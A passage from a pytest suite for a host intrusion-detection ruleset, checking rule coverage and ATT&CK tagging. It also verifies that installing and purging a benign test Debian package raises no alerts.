    "KS-DISC-004": case_disc_004,
    "KS-C2-001": case_c2_001,
    "KS-C2-002": case_c2_002,
    "KS-C2-003": case_c2_003,
    "KS-C2-004": case_c2_004,
    "KS-C2-005": case_c2_005,
    "KS-C2-006": case_c2_006,
    "KS-EXFIL-001": case_exfil_001,
    "KS-EXFIL-002": case_exfil_002,
    "KS-IMPACT-001": case_impact_001,
    "KS-IMPACT-002": case_impact_002,
}

# Written but not exercised here, and why.
UNTESTED = {
    "KS-PERSIST-013": "kernel module loading: this kernel has no loadable module support (no /proc/modules)",
}
# Rules on posture changes (Compliance Findings): each needs a daemon started with its neighbour's state
# already present, so they have their own file.
TESTED_ELSEWHERE = {
    "KS-DEF-008": "test_rules_posture.py",
    "KS-DEF-009": "test_rules_posture.py",
    "KS-PERSIST-015": "test_rules_posture.py",
    "KS-PRIV-007": "test_rules_posture.py",
}


@pytest.mark.parametrize(
    "case", sorted(c for c in CASES if c not in NETWORK_CASES) + sorted(c for c in CASES if c in NETWORK_CASES)
)
def test_rule(request, case, tmp_path):
    rule = case.split("/")[0]
    d = request.getfixturevalue("d_net" if rule in NETWORK_CASES else "d_quiet")
    action, neighbour, cleanup = CASES[case]()
    check(d, rule, action, neighbour, cleanup, str(tmp_path))


def test_module_load_rule():
    if not os.path.exists("/proc/modules"):
        pytest.skip(UNTESTED["KS-PERSIST-013"])
    pytest.skip("no module to load safely on this host; covered by the kernel matrix")


def defined_rules():
    import yaml

    ids, tags = [], {}
    for f in RULE_FILES:
        with open(f) as fh:
            doc = yaml.safe_load(fh) or {}
        for r in doc.get("rules") or []:
            ids.append(r["id"])
            tags[r["id"]] = r.get("tags") or []
    return ids, tags


@pytest.mark.needs_no_root
def test_ruleset_shape():
    """At least 40 rules, unique ids, each with a MITRE ATT&CK technique, each tested or said why not."""
    ids, tags = defined_rules()
    assert len(ids) >= 40 and len(ids) == len(set(ids))
    for i in ids:
        assert any(t[:1] == "T" and t[1:5].isdigit() for t in tags[i]), f"{i} has no ATT&CK technique id"
    covered = {c.split("/")[0] for c in CASES} | set(UNTESTED) | set(TESTED_ELSEWHERE)
    assert set(ids) <= covered, f"rules without a live test: {sorted(set(ids) - covered)}"


def build_deb(root):
    """A small package that does what real packages do: a cron job, a systemd unit, an init script, a
    profile snippet, a set-uid binary, and a system user made in postinst (removed on purge)."""
    pkg = os.path.join(root, "pkg")
    files = {
        "etc/cron.d/kstest-pkg": "0 3 * * * root true\n",
        "etc/systemd/system/kstest-pkg.service": "[Service]\nExecStart=/usr/bin/true\n",
        "etc/init.d/kstest-pkg": "#!/bin/sh\nexit 0\n",
        "etc/profile.d/kstest-pkg.sh": "true\n",
        "usr/bin/kstest-pkg": "#!/bin/sh\nexit 0\n",
        "DEBIAN/control": "Package: kstest-pkg\nVersion: 1.0\nArchitecture: all\nMaintainer: kansoku tests <t@example>\n"
        "Description: kansoku rule test package\n",
        "DEBIAN/postinst": "#!/bin/sh\nset -e\ngetent passwd kstestpkg >/dev/null || useradd --system -M -s /usr/sbin/nologin kstestpkg\n",
        "DEBIAN/postrm": "#!/bin/sh\nif [ \"$1\" = purge ]; then userdel kstestpkg || true; fi\n",
    }
    for rel, text in files.items():
        path = os.path.join(pkg, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    for rel in ("etc/init.d/kstest-pkg", "DEBIAN/postinst", "DEBIAN/postrm"):
        os.chmod(os.path.join(pkg, rel), 0o755)
    os.chmod(os.path.join(pkg, "usr/bin/kstest-pkg"), 0o4755)
    deb = os.path.join(root, "kstest-pkg.deb")
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", pkg, deb], check=True, capture_output=True)
    return deb


def test_package_install_and_purge_raise_nothing(d_quiet, tmp_path):
    """Precision: installing and purging a package that writes cron, systemd, init, profile files, a
    set-uid binary and a system user must not raise any default rule."""
    if not shutil.which("dpkg") or subprocess.run(["dpkg", "-s", "kstest-pkg"], capture_output=True).returncode == 0:
        pytest.skip("needs dpkg and no kstest-pkg installed")
    deb = build_deb(str(tmp_path))
    feed = d_quiet.feed
    start = feed.start()
    try:
        inst = run(["dpkg", "-i", deb])
        settle(d_quiet, inst, start)
        if subprocess.run(["dpkg", "-s", "kstest-pkg"], capture_output=True).returncode != 0:
            pytest.skip("dpkg could not install (its lock is held by another job on this host)")
        purge = run(["dpkg", "-P", "kstest-pkg"])
        settle(d_quiet, purge, start)
    finally:
        subprocess.run(["dpkg", "-P", "kstest-pkg"], capture_output=True)
    end = feed.poll()
    events = feed.events(start, end)
    pids = tree(events, [inst, purge])
    seen = {e["file"]["path"] for e in events if e.get("class_uid") == 1001 and subject(e) and subject(e).get("pid") in pids}
    assert any("kstest-pkg" in p for p in seen), "the package's own file events were not observed"
    # what would have matched without the package-manager exceptions really happened
    assert any((e.get("unmapped") or {}).get("setuid") for e in events if e.get("class_uid") == 1001), "no set-id"
    assert any(
        e.get("activity_id") == 1 and (e["process"].get("file") or {}).get("path", "").endswith("/useradd")
        for e in events
        if e.get("class_uid") == 1007
    ), "postinst's useradd was not seen"
    matches = [m for m in rules_test(feed.lines(start, end), str(tmp_path)) if m["pid"] in pids]
    assert not matches, f"package management raised: {[(m['rule'], m['output']) for m in matches]}"
